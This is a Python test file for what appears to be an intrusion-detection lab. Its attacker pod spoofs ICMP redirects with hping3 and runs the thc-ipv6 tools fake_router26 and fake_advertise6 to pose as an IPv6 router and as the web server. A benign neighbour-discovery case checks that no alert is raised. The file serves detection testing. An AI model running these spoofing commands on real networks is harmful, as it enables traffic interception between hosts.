"""Redirects with hping3, false routers and neighbours with the thc-ipv6 tools; and ordinary neighbours."""

from __future__ import annotations

import time

from tests.lab import pods
from tests.lab.pods import BY_NAME, GATEWAY4
from tests.lab.stage import Case, Stage, finish

CAST = ("web", "api", "client1", "client2", "attacker")
WEB, CLIENT, BAD = BY_NAME["web"], BY_NAME["client1"], BY_NAME["attacker"]


def _talk(stage: Stage, seconds: int) -> None:
    stage.server("web", "http 80")
    finish(
        stage.client("client1", f"browse --to {WEB.ip4} {WEB.ip6} --rate 2 --seconds {seconds} --seed 11"),
        stage.client("attacker", f"browse --to {WEB.ip4} {WEB.ip6} --rate 1 --seconds {seconds} --seed 12"),
    )


def _redirected(stage: Stage) -> None:
    _talk(stage, 4)
    quoted = f"--icmp-ipsrc {CLIENT.ip4} --icmp-ipdst {pods.OUTSIDE_WEB[0]}"
    with stage.attack("icmp_redirect", "attacker", "client1", gateway=BAD.ip4):
        stage.attempt(
            "attacker", f"hping3 -q --icmp -C 5 -K 1 --icmp-gw {BAD.ip4} {quoted} -a {GATEWAY4} -c 8 {CLIENT.ip4}"
        )


def _router(stage: Stage) -> None:
    _talk(stage, 4)
    with stage.attack("icmp_redirect", "attacker", "(everybody)"):
        tool = stage.begin("attacker", "atk6-fake_router26 -A 2001:db8:66::/64 eth0")
        time.sleep(8)
        tool.terminate()
        tool.wait(10)


def _neighbour(stage: Stage) -> None:
    _talk(stage, 4)
    with stage.attack("icmp_redirect", "attacker", "(both)", claims=WEB.ip6):
        tool = stage.begin("attacker", f"atk6-fake_advertise6 -r -w 1 eth0 {WEB.ip6} {CLIENT.ip6}")
        for _ in range(6):
            stage.attempt("client1", f"curl -sS -o /dev/null --max-time 1 http://[{WEB.ip6}]/page/500")
            stage.attempt("web", f"ping -6 -q -c 1 -W 1 {CLIENT.ip6}")
            stage.tool("web", "ip -6 neigh flush dev eth0")
            time.sleep(2)
        tool.terminate()
        tool.wait(10)


def _ordinary(stage: Stage) -> None:
    _talk(stage, 8)
    for pod in ("client1", "client2", "api", "web"):
        stage.tool(pod, "ip -6 neigh flush dev eth0")
        for other in ("client1", "client2", "api", "web"):
            if other != pod:
                stage.attempt(pod, f"ping -6 -q -c 1 -W 1 {BY_NAME[other].ip6}")
    stage.silence("icmp_redirect", note="neighbours find each other over IPv6")


CASES = (
    Case("icmp_redirect", "redirects", "hping3 redirects a client to the attacker", _redirected, pods=CAST),
    Case("icmp_redirect", "false_router", "A pod advertises itself as a router", _router, pods=CAST, inventory=True),
    Case("icmp_redirect", "false_neighbour", "A pod advertises a server's address as its own", _neighbour, pods=CAST,
         inventory=True),
    Case("icmp_redirect", "neighbours", "Neighbour discovery between pods", _ordinary, pods=CAST),
)  # fmt: skip
